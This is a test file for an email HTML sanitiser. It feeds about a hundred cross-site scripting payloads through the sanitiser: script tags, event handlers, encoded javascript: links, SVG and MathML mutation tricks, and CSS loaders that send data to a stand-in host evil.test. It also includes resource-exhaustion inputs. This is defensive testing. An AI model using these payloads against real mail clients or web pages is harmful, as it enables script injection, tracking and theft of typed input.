/** What hostile mails try, and that nothing but words and harmless marks is left of it. */
import { sanitizeHtml } from './sanitize';

const tags = 'a abbr address b bdi bdo big blockquote br caption center cite code col colgroup dd del dfn div dl dt em figcaption figure font h1 h2 h3 h4 h5 h6 hr i img ins kbd li mark ol p pre q s samp small span strike strong sub sup table tbody td tfoot th thead time tr tt u ul var wbr'.split(' ');
const attributes = 'style dir lang align valign title href target rel src alt width height data-remote-src colspan rowspan cellpadding cellspacing border color size start type datetime'.split(' ');
const properties = 'color background-color font-weight font-style text-decoration text-align font-size line-height vertical-align width max-width padding margin border-collapse white-space'.split(' ');

const entities: Record<string, string> = { amp: '&', lt: '<', gt: '>', quot: '"' };
const decode = (value: string): string => value.replace(/&(amp|lt|gt|quot);/g, (_, name: string) => entities[name] ?? '');

/** Everything in the output that a browser could take for more than words; [] when it is harmless. Written apart from the sanitiser, and stricter than a browser. */
function dangers(html: string): string[] {
  const found: string[] = [];
  const rest = html.replace(/<(\/?)([a-z0-9]+)((?: [a-z-]+(?:="[^"<>]*")?)*) ?\/?>/g, (_, __, tag: string, list: string) => {
    if (!tags.includes(tag)) found.push(`<${tag}>`);
    for (const [, name = '', written = ''] of list.matchAll(/ ([a-z-]+)(?:="([^"]*)")?/g)) {
      const value = decode(written);
      if (!attributes.includes(name)) found.push(name);
      if (name === 'href' && !/^(?:https?:\/\/|mailto:|tel:)/i.test(value)) found.push(`href ${value}`);
      if (name === 'src' && !/^(?:cid:|data:image\/(?:png|jpe?g|gif|webp);base64,)/i.test(value)) found.push(`src ${value}`);
      if (name === 'data-remote-src' && !/^https?:\/\//i.test(value)) found.push(`remote ${value}`);
      if (name === 'style') for (const declaration of value.split(';')) if (!properties.includes(declaration.split(':')[0]?.trim() ?? '') || /url|expression|import|\\|\/\*|@|javascript/i.test(declaration)) found.push(`style ${declaration}`);
    }
    return '';
  });
  if (/[<>]/.test(rest)) found.push(`a bracket: ${rest}`);
  return found;
}

const attacks: [name: string, html: string][] = [
  ['a script', '<script>alert(1)</script>'], ['a script of another case with spaces', '<ScRiPt\t>alert(1)</ScRiPt >'], ['a script within a script', '<scr<script>ipt>alert(1)</scr</script>ipt>'], ['a script that is never closed', '<script>alert(1)'], ['a script with a slash', '<script/src="https://evil.test/x.js"></script>'],
  ['a handler', '<img src=x onerror=alert(1)>'], ['a handler without a space', '<img/src="x"/onerror=alert(1)>'], ['a handler after a line break', '<a\nonclick\n=\nalert(1) href="https://x.test">x</a>'], ['a handler in backquotes', '<img src=`x` onerror=`alert(1)`>'], ['a handler on an end tag', '<p></p onclick=alert(1)>'], ['a handler of an animation', '<p style="animation-name:x" onanimationstart="alert(1)">x</p>'], ['a handler of focus', '<a id=x tabindex=1 autofocus onfocus=alert(1) href="#x">x</a>'],
  ['javascript', '<a href="javascript:alert(1)">x</a>'], ['javascript with a tab', '<a href="java\tscript:alert(1)">x</a>'], ['javascript with entities', '<a href="&#106;&#x61;vascript&colon;alert(1)">x</a>'], ['javascript after a control', '<a href="\u0001javascript:alert(1)">x</a>'], ['javascript after a NUL', '<a href="java\0script:alert(1)">x</a>'], ['javascript with a line break as an entity', '<a href="java&NewLine;script:alert(1)">x</a>'], ['javascript after spaces of other kinds', '<a href="\u00a0\u2028javascript:alert(1)">x</a>'], ['vbscript', '<a href="vbscript:msgbox(1)">x</a>'],
  ['a document as data', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'], ['an SVG as data in a picture', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'], ['HTML that calls itself a picture', '<img src="data:image/png,<script>alert(1)</script>">'], ['a picture of data that breaks out', '<img src="data:image/png;base64,AAAA&quot; onerror=&quot;alert(1)">'],
  ['a file of the reader', '<a href="file:///etc/passwd">x</a><img src="file://evil.test/share/x.png">'], ['a blob', '<a href="blob:https://x.test/1">x</a>'], ['an address without its scheme', '<a href="//evil.test/x">x</a><img src="//evil.test/x.png">'], ['backslashes', '<a href="\\\\evil.test\\x">x</a>'],
  ['an SVG', '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'], ['an SVG with a foreign object', '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>'], ['an SVG with a style', '<svg><style><img src=x onerror=alert(1)></style></svg>'], ['an SVG that animates a link', '<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>'], ['an SVG that uses', '<svg><use href="data:image/svg+xml;base64,PHN2Zz4#x"></use></svg>'],
  ['math', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">'], ['math with a link', '<math href="javascript:alert(1)"><mi xlink:href="javascript:alert(1)">x</mi></math>'], ['math and an annotation', '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>'],
  ['a mutation through noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'], ['a mutation through a template', '<template><p title="</template><img src=x onerror=alert(1)>"></template>'], ['a mutation through a title', '<title><p title="</title><img src=x onerror=alert(1)>"></title>'], ['a mutation through a textarea', '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>'], ['a mutation through xmp', '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>'], ['a mutation through plaintext', '<plaintext><img src=x onerror=alert(1)>'], ['a mutation through noembed and noframes', '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed><noframes><p title="</noframes><script>alert(1)</script>"></noframes>'], ['a mutation through an iframe', '<iframe><p title="</iframe><img src=x onerror=alert(1)>"></iframe>'], ['a mutation through a form in a form', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>'], ['a mutation through select', '<select><style></select><img src=x onerror=alert(1)></style>'],
  ['a comment that ends early', '<!--><img src=x onerror=alert(1)>-->'], ['a comment that ends with an exclamation mark', '<!-- --!><img src=x onerror=alert(1)> -->'], ['a comment of Internet Explorer', '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->'], ['a revealed comment of Internet Explorer', '<![if !IE]><script>alert(1)</script><![endif]>'], ['a declaration', '<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;'], ['character data', '<![CDATA[<script>alert(1)</script>]]>'], ['an instruction', '<?xml version="1.0"?><?php echo 1 ?><?import namespace="t" implementation="#default#time2">'],
  ['a style that imports', '<style>@import url(https://evil.test/x.css);</style>'], ['a style that reads what is typed', '<style>input[value^=a]{background:url(https://evil.test/a)}</style>'], ['a style within an attribute that loads', '<p style="background:url(https://evil.test/x.png)">x</p>'], ['a style that loads by an escape', '<p style="background-image:\\75rl(https://evil.test/x.png)">x</p>'], ['a style with a comment in it', '<p style="background-color:u/**/rl(https://evil.test/x.png)">x</p>'], ['an expression', '<p style="width:expression(alert(1))">x</p>'], ['an expression with a comment', '<p style="width:exp/**/ression(alert(1))">x</p>'], ['a binding', '<p style="-moz-binding:url(https://evil.test/x.xml#a);behavior:url(x.htc)">x</p>'], ['a style that covers the page', '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">x</div>'], ['a style that breaks out of its attribute', '<p style="color:red&quot;&gt;&lt;img src=x onerror=alert(1)&gt;">x</p>'], ['a font that counts letters', '<p style="font-family:evil;src:url(https://evil.test/x.woff)">x</p>'], ['a colour that is a function', '<p style="color:rgb(1,2,3)url(https://evil.test)">x</p>'], ['a variable', '<p style="--x:url(https://evil.test);color:var(--x)">x</p>'],
  ['a set of sources', '<img srcset="https://evil.test/a.png 1x" src="cid:a"><picture><source srcset="https://evil.test/b.png"></picture>'], ['a picture that is loaded', '<img src="https://evil.test/pixel.gif?u=1" width=1 height=1>'], ['a picture by another attribute', '<img lowsrc="https://evil.test/x" dynsrc="https://evil.test/x" longdesc="https://evil.test/x" usemap="#m">'], ['a map', '<map name=m><area href="javascript:alert(1)" shape=rect></map>'], ['a background of a table', '<table background="https://evil.test/x.png"><tr><td background="javascript:alert(1)">x</td></tr></table>'], ['sounds and films', '<audio src="https://evil.test/x.mp3" autoplay></audio><video poster="https://evil.test/x.png"><source src=x onerror=alert(1)></video>'], ['an input that is a picture', '<input type=image src="https://evil.test/x.png" onerror=alert(1)>'],
  ['a form', '<form action="https://evil.test"><input name=password><button formaction="javascript:alert(1)">x</button></form>'], ['a button that is elsewhere', '<button form=x formaction="https://evil.test">x</button><isindex action="https://evil.test" prompt=x>'], ['a refresh', '<meta http-equiv=refresh content="0;url=https://evil.test">'], ['a base', '<base href="https://evil.test/"><a href="x">x</a>'], ['a link to a style', '<link rel=stylesheet href="https://evil.test/x.css"><link rel=dns-prefetch href="//evil.test">'], ['frames', '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset><iframe srcdoc="<script>alert(1)</script>"></iframe>'], ['an object', '<object data="data:text/html,<script>alert(1)</script>"></object><embed src="https://evil.test/x.swf"><applet code=x></applet>'], ['a dialogue and a popover', '<dialog open><div popover id=x onbeforetoggle=alert(1)>x</div></dialog><details open ontoggle=alert(1)>x</details>'], ['a custom element', '<x-evil is="y" onclick=alert(1)>x</x-evil>'], ['a slot and a shadow', '<div><template shadowrootmode=open><script>alert(1)</script></template></div>'],
  ['an attribute that is never closed', '<a href="https://x.test/"onmouseover=alert(1)//><img src="'], ['an attribute with a quote in its name', '<p "onclick="alert(1)" a=\'"\'>x</p>'], ['a tag in a tag', '<p<img src=x onerror=alert(1)>>x'], ['a bracket in a title', '<a title="><script>alert(1)</script>" href="https://x.test">x</a>'], ['a title with an escaped quote', '<a title="&quot;onclick=alert(1)//" href="https://x.test">x</a>'], ['brackets of full width', '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e'], ['utf-7 in words', '+ADw-script+AD4-alert(1)+ADw-/script+AD4-'], ['a NUL in a tag', '<scr\0ipt>alert(1)</scr\0ipt><im\0g src=x onerror=alert(1)>'], ['names that shadow', '<img name=getElementById><a id=body href="https://x.test">x</a><form id=attributes></form>'], ['a link that opens and keeps its opener', '<a href="https://x.test" target="_top" rel="opener" ping="https://evil.test" download>x</a>'],
  ['a content id that leads out', '<img src="cid:x\\" onerror=\\"alert(1)"><img src="cid:javascript:alert(1)"><img src="CID:https://evil.test/x.png">'], ['a content id with a path', '<img src="cid:../../api/v1/logout">'], ['a remote picture that names itself', '<img data-remote-src="javascript:alert(1)"><img data-remote-src="/api/v1/logout" src="cid:a">'],
];

describe('an attack leaves nothing but words and harmless marks', () => {
  it.each(attacks)('%s', (_, html) => {
    for (const around of ['%', '<p>before</p>%<p>after</p>', '<table><tr><td>%</td></tr></table>', '<div><blockquote>%']) {
      const clean = sanitizeHtml(around.replace('%', () => html));
      expect(dangers(clean)).toEqual([]);
      // Stored, read and cleaned again by another version: nothing may come alive in between.
      expect(sanitizeHtml(clean)).toBe(clean);
    }
  });

  it('is seen by this very check when it is left', () => {
    for (const left of ['<img src="x" onerror="a">', '<a href="javascript:x">x</a>', '<p style="background:url(x)">x</p>', '<svg></svg>', '<img src="https://evil.test/x">', 'a < b', '<a href="//evil.test">x</a>', '<a href="/logout">x</a>', '<img data-remote-src="/api">']) expect(dangers(left)).not.toEqual([]);
  });
});

describe('a mail of much', () => {
  it.each([
    ['an attribute of 2 MB', `<p title="${'a'.repeat(2_000_000)}">x</p>`], ['200 000 attributes', `<p ${'a=b '.repeat(200_000)}>x</p>`], ['depth', `${'<div>'.repeat(50_000)}x`], ['a style of 1 MB', `<p style="${'color:red;'.repeat(100_000)}">x</p>`], ['comments without end', '<!--'.repeat(100_000)], ['brackets', '<'.repeat(300_000)], ['entities', '&amp;'.repeat(200_000)], ['end tags', '</p>'.repeat(150_000)],
  ])('of %s is cleaned at once', (_, html) => {
    const before = process.cpuUsage();
    expect(dangers(sanitizeHtml(html))).toEqual([]);
    const { user, system } = process.cpuUsage(before);
    expect((user + system) / 1000).toBeLessThan(2_000);
  });

  it('keeps what a letter needs', () => {
    const letter = '<p style="color:red">Hello <b>you</b>, see <a href="https://x.test">this</a></p><table><tbody><tr><td>1</td></tr></tbody></table><img alt="photo" src="cid:a@b" />';
    expect(sanitizeHtml(letter)).toBe(letter.replace('href="https://x.test"', 'href="https://x.test" target="_blank" rel="noopener noreferrer nofollow"'));
  });
});
